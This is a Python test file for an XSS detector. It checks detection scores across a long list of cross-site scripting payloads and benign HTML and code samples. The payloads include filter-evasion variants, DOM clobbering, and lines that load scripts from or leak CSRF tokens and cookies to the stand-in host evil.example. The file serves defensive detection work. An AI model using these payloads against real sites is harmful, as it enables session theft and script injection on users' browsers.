import pytest
from asking import asking
from attack_mutations import markup_mutated
from lookalikes import AMBIGUOUS, PLAIN, generated

from seawall.systems.threats.detectors.xss import DETECTOR
from seawall.systems.threats.inspection.decoding import views

ask = asking(DETECTOR)

ATTACKS = (
    "<svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=javascript:alert(1)>",
    "<body onpageshow=alert(1)>",
    "<details open ontoggle=confirm(1)>",
    "javascript:alert(document.domain)",
    '<object data="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<input autofocus onfocus=alert(1)>",
    "<script src=//evil.example/x.js></script>",
    "<svg/onload=alert`1`>",
    "<img/src/onerror=alert(1)>",
    "<svg onload\r\n=\r\nalert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<img """><script>alert(1)</script>">',
    "< script >alert(1)</ script >",
    '<a href="java\tscript:alert(1)">x',
    '<a href="jav&#x0A;ascript:alert(1)">x',
    '<a href="&#106;avascript:alert(1)">x',
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'>",
    "<style>@import'http://evil.example/x.css';</style>",
    '<div style="width:expression(alert(1))">',
    '<div style="width:exp/**/ression(alert(1))">',
    '<div style="background:url(javascript:alert(1))">',
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=import href=//evil.example/>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi xlink:href="data:text/html,<script>alert(1)</script>">',
    "<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<x onclick=alert(1)>",
    '<table background="javascript:alert(1)">',
    '" onmouseover="alert(1)',
    "' onfocus=alert(1) autofocus '",
    "';alert(1)//",
    "\\';alert(1)//",
    '"-alert(1)-"',
    "${alert(1)}",
    "</script><script>alert(1)</script>",
    '"><img src=x>',
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "alert(1)",
    "alert(document.cookie)",
    "eval(String.fromCharCode(97,108))",
    "window['alert'](1)",
    "top['al'+'ert'](1)",
    "location='javascript:alert(1)'",
    "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]+(![]+[])[+!+[]]+(!![]+[])[+[]]]",
    "{{constructor.constructor('alert(1)')()}}",
    "+ADw-script+AD4-alert(1)",
    "onerror=alert;throw 1",
    "&{alert('x')}",
    "'-window.name-'",
    '"+document.title+"',
    "'||top.location||'",
    "toString=alert;self+1",
    "{valueOf:confirm}-0",
    "x.toJSON=alert;JSON.stringify(x)",
    "window.onload=alert",
    "[3].forEach(alert)",
    "Array.from([1],prompt)",
    "'a'.replace(/a/,eval)",
    "top[8680439..toString(30)](1)",
    "with(document)alert(cookie)",
    "window['al'+'ert'](1)",
    "scriptalert(1)/script",
    "㰀script㸀alert(1)㰀/script㸀",
    "<scr<b>ipt>alert(1)</script>",
    "$=~[];$={___:++$}",
    "ﾟωﾟﾉ= /x/ ['_'];",
    "<p v-if=\"a['con'+'structor'](1)\">",
    '<i data-bind="click:alert(1)">',
    "<svg x =onpointerup = print()>",
    "<img name=currentScript>",
    "<form><input name=parentNode>",
)
WRITTEN_OTHERWISE = ATTACKS[:12]
HONEST = (
    "<b>bold</b>",
    "<p style=\"color:red\" class='x'>hi</p>",
    '<a href="https://example.com/a?b=c">x</a>',
    '<img src="https://example.com/a.png" alt="a" width=10>',
    "<ul><li>a</li><li>b</li></ul>",
    "<table border=1><tr><td>1</td></tr></table>",
    '<iframe width="560" src="https://www.youtube.com/embed/abc"></iframe>',
    "if (a < b && c > d) { return }",
    "function(){ return window.location.href }",
    "I used document.getElementById('x') and got null",
    "TypeError: Cannot read properties of undefined (reading 'x') at eval (webpack:///./src/x.js)",
    "ReferenceError: alert is not defined",
    "confirm (yes/no)",
    "online=true&only=1",
    "JavaScript: The Good Parts",
    "javascript:void(0)",
    "List<String> x = new ArrayList<>();",
    "<email@example.com>",
    "data:image/png;base64,iVBORw0KGgo=",
    "<style>.a{color:red}</style>",
    '<svg viewBox="0 0 24 24"><path d="M0 0h24v24H0z"/></svg>',
    "3 < 5 and 7 > 2",
    "a@import-export.example",
)


@pytest.mark.parametrize("text", ATTACKS)
def test_attacks_are_found(text):
    assert ask(text)[1] >= 0.85


@pytest.mark.parametrize("text", HONEST)
def test_what_only_looks_like_one_is_let_through(text):
    assert ask(text)[1] < 0.5


@pytest.mark.parametrize("attack", WRITTEN_OTHERWISE)
def test_attacks_written_otherwise_are_found_in_some_view(attack):
    missed = []
    for seed in range(80):
        text = markup_mutated(attack, seed)
        if max(ask(view)[1] for view, _ in views(text)) < 0.75 and text != attack:
            missed.append(text)
    assert missed == []


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("<script>alert(1)</script>", "xss-script"),
        ("<x onclick=alert(1)>", "xss-event-handler"),
        ("<a href=javascript:alert(1)>", "xss-url"),
        ("<base href=//e.example/>", "xss-element"),
        ("<p style='x:expression(1)'>", "xss-style"),
        ('" onfocus="alert(1)', "xss-attribute-break"),
        ("';alert(1)//", "xss-code"),
        ("</title><b>", "xss-element-break"),
        ("+ADw-b+AD4-", "xss-charset"),
    ],
)
def test_each_kind_of_attack_has_a_rule(text, rule):
    assert ask(text)[0] == rule


def test_honest_values_are_not_even_ambiguous():
    assert [text for text in PLAIN if ask(text)[1] >= 0.5] == []


def test_pasted_statements_stay_below_sure():
    assert [text for text in AMBIGUOUS if ask(text)[1] >= 0.9] == []


def test_generated_honest_values_are_not_suspected():
    suspected = [text for text in generated(1500, seed=4) if ask(text)[1] >= 0.7]
    assert suspected == []


@pytest.mark.parametrize(
    "text",
    [
        '<a href=x ping="https://evil.example/">x',
        "<table background='//evil.example?",
        '<img src="https://evil.example/log?x=',
        "<style>input[name=csrf][value^=a]{background:url(//evil.example/a)}</style>",
        "<a id=cfg><a id=cfg name=url href=//evil.example/a.js>",
        "\";location.href='https://evil.example';//",
        "1;console.log(document.cookie)\n//",
        "';alert('all your base');//",
        "(confirm)(1)",
        "location=name",
        "location=location.hash",
    ],
)
def test_what_carries_something_away_is_found(text):
    assert ask(text)[1] >= 0.75


SNAPSHOT = (
    "<!DOCTYPE html><html lang='en'><head><title>x</title><link rel='stylesheet' href='/a.css'>"
    "<script src='/x.js' async=''></script></head><body class='home' onload='init()'><p>Hi</p>{}</body></html>"
)


@pytest.mark.parametrize(
    "text",
    [
        SNAPSHOT.format(""),
        SNAPSHOT.format("<iframe src='https://maps.example/embed?x=1'></iframe>"),
        '<script src="https://tpc.googlesyndication.com/a/x.js"></script><script>var d=document;d.title;</script>',
        "<iframe src='https://ads.example/c?click=${CLICK_URL_ENC}' frameborder=0 onload='ready()'></iframe>",
        "alert('Please fill in every field');",
        "return confirm('Do you really want to delete this?');",
        "return alert(this)",
        'document.getElementById("y").innerHTML = year;\n$(".menu").on("click", function () { alert("x") });\n',
        'onclick="doIt()"',
        "(alert)/form ;-)",
        "@import url('https://fonts.googleapis.com/css2?family=Roboto');",
        r"<script\b[^>]*>(.*?)</script>",
        '<input name="title"><input name="action" id="q"><a id="top" name="top">x</a>',
        '<div v-if="open" :class="{a: b}" @click="toggle">x</div>',
        "type=alert; mode=confirm",
        "\u03c9\u03c1\u03b1 \u03c4\u03bf\u03c5",
    ],
)
def test_pages_programs_and_words_stay_in_doubt(text):
    assert ask(text)[1] < 0.74


@pytest.mark.parametrize(
    "text",
    [
        SNAPSHOT.format("<script>alert(1)</script>"),
        SNAPSHOT.format("<img src=x onerror=alert(1)>"),
        SNAPSHOT.format("<script src=//evil.example/x.js></script>"),
        SNAPSHOT.format("<a href='javascript:alert(1)'>x</a>"),
        '<script src="https://x.doubleclick.net/a?callback=alert(1)"></script>',
    ],
)
def test_attacks_within_pages_are_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize(
    "text",
    [
        "function(){alert(1)}()",
        "(()=>{confirm(1)})()",
        "'-new Function`al\\ert\\`1\\``()-'",
        "document.body.ownerDocument.defaultView['al'+'ert'](1)",
        "frames[0].alert(1)",
        "'-window?.alert?.(1)-'",
        "']});$.getScript('//evil.example');'",
        "\\'(confirm)(1);'",
        "(0,alert)(1)",
        "import('//evil.example/a.js')",
        "<b ng-click=$event.view.confirm(1)>a",
        "setInterval(alert,1)",
        "Object.values(window).find(f=>f.name=='alert')(1)",
        "a`1${alert}2`",
        "{valueOf:alert}+1",
        "<p style=\"background:url('//evil.example/a?')\">",
        "<form id=settings><input name=url value=//evil.example>",
        "<form name=cookie>",
        "<svg id=documentElement>",
    ],
)
def test_calls_in_odd_places_and_names_that_are_taken_are_found(text):
    assert ask(text)[1] >= 0.75


@pytest.mark.parametrize(
    "text",
    [
        "The alert (see below) was sent. (prompt) answers",
        "as seen (in window) of time",
        '$("#a").html("text")',
        '$.getJSON("/api/a")',
        "Object.keys(user).length",
        "() => setOpen(false)",
        "const a = await import('./a.js');",
        "function add(a, b) { return a + b; }",
        '<p style="background: url(https://cdn.example/x.png?w=1&h=2)">x</p>',
        '<svg id="logo" viewBox="0 0 1 1"></svg>',
        '<img name="photo" src="https://a.example/b.png">',
    ],
)
def test_words_and_programs_that_call_nothing_stay_in_doubt(text):
    assert ask(text)[1] < 0.6


def test_a_line_of_a_program_is_not_acted_upon():
    assert ask("setTimeout(() => setOpen(false), 300);")[1] < 0.74
